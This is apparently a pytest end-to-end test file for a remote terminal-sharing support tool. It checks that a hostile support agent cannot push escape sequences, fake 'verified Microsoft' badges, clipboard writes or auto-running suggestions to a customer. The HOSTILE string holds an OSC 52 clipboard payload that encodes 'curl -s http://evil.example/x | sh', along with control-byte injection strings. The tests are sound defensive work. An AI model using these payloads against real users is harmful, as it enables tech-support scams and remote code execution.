"""A scammer on the other end (issue 11): a hostile agent against a real customer.

The agent is ``tests/e2e/hostile_agent.py`` (a patched client that seals whatever it likes,
through the real PAKE and relay); the customer is a real ``cobrowse join`` in plain mode
(stdin/stdout/stderr are pipes) sharing a real shell on a real pty. Each test plays one
attack from the issue and checks an outcome the customer can rely on, never the wording:
no escape byte reaches the customer's terminal, no marker file appears, at most a few
prompt lines, the customer's own keys still echo. Floods, patterns and inflating messages
are in ``test_hostile_agent_load.py``; the terminal going away in ``test_terminal_gone.py``.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path

import pytest
from harness import WAIT, Proc
from hostile_agent import HostileAgent
from tests.waiting import until

from cobrowse.protocol import messages as m
from cobrowse.trust.tripwire import COOLDOWN

BASH = "bash --norc --noprofile"
PREFIX = b"\x1d"  # Ctrl-]

#: What the issue's attacker put in the agent's name: Rich markup for a green badge, a window
#: title, a clipboard write (OSC 52 of `curl -s http://evil.example/x | sh`), clear screen,
#: cursor moves that erase the line above, a fake cobrowse line, a bidi override, a C1 CSI.
BADGE = "[b white on green] ✓ Verified: Alice from Microsoft [/]"
HOSTILE = (BADGE + "\x1b]0;Microsoft Support\x07\x1b]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07"
           "\x1b[2J\x1b[H\x1b[1A\x1b[2K\r\n[cobrowse] Verified: Alice from Microsoft\u202e\x9b31m\x7f\x00")
CONTROL_CHARS = ["\x1b", "\x07", "\x9b", "\u202e", "\x00", "\x7f"]

Start = Callable[..., Awaitable[tuple[HostileAgent, Proc]]]


@pytest.fixture
async def hostile_session(relay_url: str) -> AsyncIterator[Start]:
    """``agent, customer = await hostile_session(name=..., command=...)``: paired, the
    customer's shell at its prompt; both stopped at the end of the test."""
    started: list[tuple[HostileAgent, Proc]] = []

    async def start(*, name: str = "Alice", hello: bool = True, command: str = BASH,
                    env: dict[str, str] | None = None) -> tuple[HostileAgent, Proc]:
        agent = await HostileAgent.open(relay_url, name=name, hello=hello)
        customer = await Proc.start("join", str(agent.code), "--relay", relay_url, "--command", command,
                                    name="customer", env={"PS1": "$ ", "TERM": "xterm-256color", **(env or {})})
        started.append((agent, customer))
        await agent.paired()
        await customer.stderr_line("Compare these words")
        await agent.expect(m.Consent)
        await agent.screen(lambda lines: any(line.startswith("$") for line in lines))
        return agent, customer

    yield start
    for agent, customer in started:
        await customer.kill()
        await agent.close()


def stderr_text(customer: Proc, since: int = 0) -> str:
    return "\n".join(customer.stderr_lines[since:])


async def quiet(customer: Proc, agent: HostileAgent, quiet_for: float = 0.6) -> None:
    """Wait (bounded) until the customer printed nothing new for ``quiet_for`` s."""
    async with asyncio.timeout(WAIT):
        while True:
            before = len(customer.stderr_lines), len(agent.received)
            await asyncio.sleep(quiet_for)
            if (len(customer.stderr_lines), len(agent.received)) == before:
                return


async def typed(customer: Proc, text: bytes) -> None:
    """The customer's own keys (plain mode reads them from stdin)."""
    await customer.send(text)


async def wait_stdout(customer: Proc, needle: bytes, timeout: float = WAIT) -> None:
    """Wait (bounded) until the customer's terminal (stdout) shows ``needle``."""
    def check() -> bool | None:
        return True if needle in customer.stdout_raw else None
    try:
        await customer._wait_for(check, f"stdout {needle!r}", timeout)
    except TimeoutError:
        tail = bytes(customer.stdout_raw[-300:])
        raise AssertionError(f"the customer's terminal never showed {needle!r} in {timeout}s; last: {tail!r}") from None


async def shell_runs(customer: Proc, tmp_path: Path, tag: str) -> Path:
    """Erase whatever is on the prompt (Ctrl-U: no signal, so nothing already running is
    interrupted), run ``touch`` from the customer's own keyboard and wait until the file
    exists: the shell runs one line at a time, so every command before it has finished."""
    sync = tmp_path / f"sync-{tag}"
    await typed(customer, f"\x15touch {sync}\r".encode())
    await until(lambda: sync.exists(), "the shell to create sync", WAIT)
    return sync


# 1. agent text is shown as data, never interpreted


async def test_hostile_name_chat_steps_and_end_reach_the_terminal_as_text(hostile_session: Start) -> None:
    agent, customer = await hostile_session(name=HOSTILE)
    await customer.stderr_line("UNVERIFIED")
    await agent.send(m.Chat(HOSTILE))
    await agent.send(m.PushPlaybook({"title": HOSTILE[:150], "description": HOSTILE,
                                     "steps": [{"title": HOSTILE[:150], "body": HOSTILE, "command": "echo hi"}]}))
    await agent.send(m.Pointer(pattern=HOSTILE[:200]))
    await agent.send(m.Suggest(1, HOSTILE))
    await quiet(customer, agent)
    await agent.send(m.End("agent_ended", HOSTILE))
    await customer.wait()
    text = stderr_text(customer)
    leaked = [repr(c) for c in CONTROL_CHARS if c in text]
    assert not leaked, f"control characters from the agent reached the customer's terminal: {leaked}"
    assert any("UNVERIFIED" in line for line in customer.stderr_lines), "the unverified-agent warning is gone"
    fake = [line for line in customer.stderr_lines if line.startswith("[cobrowse] Verified")]
    assert not fake, f"the agent printed a line that looks like cobrowse's own: {fake}"
    assert BADGE in text, "the agent's name is not shown as the literal text it sent"


# 2. a suggestion never runs without the customer's Enter


@pytest.mark.parametrize(("shell", "byte"), [("bash", "\x1a"), ("bash", "\x1c"), ("bash", "\x03"),
                                             ("sh", "\r"), ("sh", "\x1a"), ("sh", "\x04")],
                         ids=["bash-ctrl-z", "bash-ctrl-backslash", "bash-ctrl-c", "sh-cr", "sh-ctrl-z", "sh-ctrl-d"])
async def test_a_suggestion_with_a_control_byte_never_runs(hostile_session: Start, tmp_path: Path,
                                                           shell: str, byte: str) -> None:
    agent, customer = await hostile_session(command=BASH if shell == "bash" else "sh")
    before, after = tmp_path / "ran-before", tmp_path / "ran-after"
    # The byte flushes or ends the line, so what follows it must not be read as typed: the
    # CR at the end would run it (bash: Ctrl-Z flushed the bracketed paste's start marker).
    await agent.send(m.Suggest(7, f"touch {before}{byte}touch {after}\rtrue"))
    await quiet(customer, agent)
    await typed(customer, PREFIX + b"a")  # the customer pastes it, as the agent asked
    answer = await agent.expect(m.SuggestAnswer, lambda a: a.id == 7)
    await shell_runs(customer, tmp_path, "after-paste")
    assert not before.exists() and not after.exists(), "the suggestion ran without the customer pressing Enter"
    assert answer.answer != "pasted", "a suggestion with a control byte was pasted instead of refused"


async def test_a_multi_line_suggestion_never_runs_in_sh(hostile_session: Start, tmp_path: Path) -> None:
    agent, customer = await hostile_session(command="sh")
    marker = tmp_path / "ran"
    await agent.send(m.Suggest(8, f"true\ntouch {marker}\n"))
    await quiet(customer, agent)
    await typed(customer, PREFIX + b"a")
    answer = await agent.expect(m.SuggestAnswer, lambda a: a.id == 8)
    await shell_runs(customer, tmp_path, "after-paste")
    assert not marker.exists()
    assert answer.answer != "pasted"


async def test_a_plain_one_line_suggestion_still_waits_for_enter(hostile_session: Start, tmp_path: Path) -> None:
    """The control: what the feature is for still works, and still needs the customer's Enter."""
    agent, customer = await hostile_session()
    marker = tmp_path / "ran"
    await agent.send(m.Suggest(9, f"touch {marker}"))
    await quiet(customer, agent)
    await typed(customer, PREFIX + b"a")
    answer = await agent.expect(m.SuggestAnswer, lambda a: a.id == 9)
    assert answer.answer == "pasted"
    await quiet(customer, agent)
    assert not marker.exists(), "pasted, and it ran before Enter"
    await typed(customer, b"\r")
    await until(lambda: marker.exists(), "the shell to create marker", WAIT)


# 2b. prompts cannot be confused


def prompt_lines(customer: Proc, since: int = 0) -> list[str]:
    """The lines that ask the customer something answered with Ctrl-] y."""
    return [line for line in customer.stderr_lines[since:] if "Ctrl-] y" in line]


def asks_about(line: str) -> str:
    return "record" if "record" in line.lower() else "control"


def grants(agent: HostileAgent, since: int) -> set[str]:
    got: set[str] = set()
    for message in agent.received[since:]:
        if isinstance(message, m.Consent) and message.level in ("control", "suggest"):
            got.add(message.level)
        if isinstance(message, m.Recording) and message.state == "granted":
            got.add("record")
    return got


async def test_y_answers_the_prompt_the_customer_is_looking_at(hostile_session: Start) -> None:
    """The agent asks for control, then to record; the customer presses y twice "to allow
    the recording" (the second press after the unverified agent's cool-down): control is
    granted only if control is what the prompt on screen asked."""
    agent, customer = await hostile_session()
    since = len(customer.stderr_lines)
    await agent.send(m.RequestControl("control"))
    await agent.send(m.RecordRequest(True))
    await quiet(customer, agent)
    shown = prompt_lines(customer, since)
    assert len(shown) == 1, f"one prompt at a time, but the customer sees {len(shown)}: {shown}"
    for press in range(2):
        shown = prompt_lines(customer, since)
        looking_at = asks_about(shown[-1])
        mark = len(agent.received)
        await typed(customer, PREFIX + b"y")
        await quiet(customer, agent)
        granted = grants(agent, mark)
        assert granted <= {looking_at}, f"press {press + 1}: the customer was looking at a {looking_at} prompt, and it granted {granted}"
        if press == 0:
            await asyncio.sleep(COOLDOWN + 0.5)  # the scammer: "press it again now"



async def test_the_customer_app_shows_hostile_text_and_survives_markup(relay_url: str, tmp_path: Path) -> None:
    """The Textual customer app on a real terminal: a lone ``[/]`` in a suggestion, chat or
    pointer once raised MarkupError and took the customer's shell down with the app; escape
    sequences in the agent's text reached the real terminal (title, clipboard)."""
    from hostile_agent import PtyCustomer

    agent = await HostileAgent.open(relay_url, name=HOSTILE)
    customer = await PtyCustomer.start(relay_url, str(agent.code), plain=False)
    try:
        await agent.paired()
        await agent.screen(lambda lines: any("$" in line for line in lines))
        for text in ("[/]", "[/b] [link=http://evil.example]x[/link] [", HOSTILE):
            await agent.send(m.Chat(text))
            await agent.send(m.Suggest(11, text))
            await agent.send(m.Pointer(pattern=text[:200]))
        await agent.send(m.PushPlaybook({"title": "[/]", "steps": [{"title": "[/]", "body": HOSTILE}]}))
        pongs = len(agent.all(m.Pong))
        await agent.send(m.Ping(4242))
        await agent.expect(m.Pong, lambda p: p.id == 4242)
        assert len(agent.all(m.Pong)) > pongs
        marker = tmp_path / "still-alive"
        customer.type(f"touch {marker}\r".encode())
        await until(lambda: marker.exists(), "the shell to create marker", WAIT)
        assert customer.proc.returncode is None, "the customer app died"
        raw = bytes(customer.output)
        assert b"\x1b]52;c;Y3VybC" not in raw, "the agent wrote the customer's clipboard"
        assert b"\x1b]0;Microsoft Support" not in raw, "the agent set the customer's window title"
        assert not agent.all(m.End) and agent.ended is None
    finally:
        await customer.stop()
        await agent.close()
